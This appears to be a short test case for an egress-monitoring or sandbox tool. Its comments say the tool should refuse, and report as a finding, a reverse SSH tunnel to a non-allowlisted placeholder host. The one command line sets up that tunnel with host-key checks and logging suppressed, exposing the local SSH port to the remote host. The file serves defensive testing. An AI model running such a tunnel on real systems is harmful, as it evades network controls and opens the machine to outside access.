# To a host that nobody opened.
#: in watched
#: needs ssh
#: refuse not-listed $ID.denied.example:22
#: finding tunnel.reverse-ssh
ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -N -R 8080:localhost:22 a@$ID.denied.example
